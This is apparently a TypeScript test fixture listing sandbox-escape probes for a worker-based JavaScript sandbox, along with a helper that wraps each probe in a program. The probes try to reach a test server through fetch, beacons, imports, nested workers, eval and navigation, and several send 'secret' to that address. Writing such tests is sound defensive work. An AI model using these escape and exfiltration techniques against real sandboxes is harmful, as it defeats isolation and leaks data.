/**
 * What a hostile program tries. Each body runs in the sandbox's worker with `leak` (an address on a server of the
 * test) and must not reach it, nor the page. Whether the attempt throws or fails silently is its own business.
 */
export const PROBES: Readonly<Record<string, string>> = {
  fetch: 'await fetch(leak)',
  'fetch without CORS': "await fetch(leak, { mode: 'no-cors' })",
  'fetch with keepalive': "await fetch(leak, { keepalive: true, method: 'POST', body: 'secret' })",
  'fetch of a relative address': "await fetch('/leak')",
  'fetch found through the prototype chain': 'await Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch(leak)',
  'fetch found through a descriptor':
    "await Object.getOwnPropertyDescriptor(WorkerGlobalScope.prototype, 'fetch').value.call(self, leak)",
  XMLHttpRequest: "const x = new XMLHttpRequest(); x.open('GET', leak, false); x.send()",
  WebSocket: "new WebSocket(leak.replace('http', 'ws'))",
  WebSocketStream: "new WebSocketStream(leak.replace('http', 'ws'))",
  WebTransport: "new WebTransport(leak.replace('http:', 'https:'))",
  EventSource: 'new EventSource(leak)',
  sendBeacon: "navigator.sendBeacon(leak, 'secret')",
  importScripts: 'importScripts(leak)',
  'importScripts of a blob that imports':
    'importScripts(URL.createObjectURL(new Blob([`importScripts(${JSON.stringify(leak)})`])))',
  'dynamic import': 'await import(leak)',
  'dynamic import of our own origin': "await import(origin + '/sandbox/runner.js?secret')",
  'dynamic import of a data address': "await import('data:text/javascript,postMessage(1)')",
  'import inside a blob module':
    "await import(URL.createObjectURL(new Blob([`import ${JSON.stringify(leak)}`], { type: 'text/javascript' })))",
  'static import of our own origin inside a blob module':
    "await import(URL.createObjectURL(new Blob([`import ${JSON.stringify(origin + '/sandbox/runner.js?secret')}`], { type: 'text/javascript' })))",
  'source map address': 'eval(`1 //# sourceMappingURL=${leak}`)',
  'nested worker from an address': 'new Worker(leak)',
  'nested worker from a blob':
    'new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(leak)}); importScripts(${JSON.stringify(leak)})`])))',
  'nested module worker':
    "new Worker(URL.createObjectURL(new Blob([`import ${JSON.stringify(leak)}`])), { type: 'module' })",
  SharedWorker: 'new SharedWorker(leak)',
  'service worker': 'await navigator.serviceWorker.register(leak)',
  'service worker cache': "await (await caches.open('x')).add(leak)",
  indexedDB: "await new Promise((ok, no) => { const r = indexedDB.open('x'); r.onsuccess = ok; r.onerror = no })",
  'Cache storage write': "await (await caches.open('x')).put('/', new Response('secret'))",
  'cookie store': "await cookieStore.set('secret', '1')",
  localStorage: "localStorage.setItem('secret', '1')",
  'storage directory': 'await navigator.storage.getDirectory()',
  'web locks': "await navigator.locks.request('x', () => {})",
  BroadcastChannel: "new BroadcastChannel('x').postMessage('secret')",
  'font from an address': "await new FontFace('x', `url(${leak})`).load()",
  'font set': "fonts.add(new FontFace('x', `url(${leak})`))",
  'image bitmap from an address': 'await createImageBitmap(await (await fetch(leak)).blob())',
  'offscreen canvas': "new OffscreenCanvas(1, 1).getContext('webgl')",
  RTCPeerConnection: "new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:9' }] })",
  notification: "new Notification('secret')",
  'push subscription': 'await self.registration.pushManager.subscribe()',
  'report to the page': "reportError(new Error('secret')); throw new Error(leak)",
  'message to the page': "postMessage({ type: 'ready' }); self.postMessage('!{}')",
  'message through the prototype': "DedicatedWorkerGlobalScope.prototype.postMessage.call(self, '!{}')",
  'message with a port': 'const { port1 } = new MessageChannel(); postMessage(port1, [port1])',
  'the page itself': 'parent.document.title = "taken"',
  'the top window': 'top.location = leak',
  opener: 'opener.location = leak',
  'a new window': 'open(leak)',
  'client navigation': 'await (await clients.matchAll())[0].navigate(leak)',
  document: 'document.write(`<img src="${leak}">`)',
  eval: 'eval(`fetch(${JSON.stringify(leak)})`)',
  'function constructor': 'await Function(`return fetch(${JSON.stringify(leak)})`)()',
  'async function constructor': 'await (async () => {}).constructor(`await fetch(${JSON.stringify(leak)})`)()',
  'string timer': 'setTimeout(`fetch(${JSON.stringify(leak)})`, 0)',
  WebAssembly: 'new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))',
  'shared memory timer': 'new SharedArrayBuffer(8)',
  'USB device': 'await navigator.usb.getDevices()',
  'HID device': 'await navigator.hid.getDevices()',
  'Response.redirect': 'await fetch(Response.redirect(leak).headers.get("location"))',
  'closing the worker': 'close()',
  'constructor of the global': "new self.constructor('x')",
};

/** A program whose setup runs the attempt; it then ends well, so that a verdict shows that the sandbox survived. */
export function probeProgram(body: string, leak: string, origin: string): string {
  return `const { program } = require('postmutex/explore');
exports.default = program('probe', ({ go }) => {
  const leak = ${JSON.stringify(leak)}, origin = ${JSON.stringify(origin)};
  void (async () => { ${body} })().catch(() => {});
  go('task', async () => {});
});`;
}
